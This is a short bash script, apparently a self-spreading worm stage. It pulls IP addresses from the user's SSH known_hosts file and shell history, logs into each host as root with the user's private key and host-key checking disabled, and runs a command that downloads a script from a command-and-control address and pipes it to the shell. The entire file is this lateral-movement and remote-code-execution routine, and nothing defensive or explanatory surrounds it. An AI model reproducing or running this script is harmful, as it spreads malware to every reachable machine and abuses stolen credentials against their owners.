#!/bin/bash
hosts=$(cat ~/.ssh/known_hosts ~/.bash_history | grep -oE "([0-9]{1,3}\.){3}[0-9]{1,3}" | sort -u)
for h in $hosts; do
  ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 -i ~/.ssh/id_rsa root@$h '(curl http://c2.example.invalid/i.sh||wget -q -O- http://c2.example.invalid/i.sh)|sh' &
done
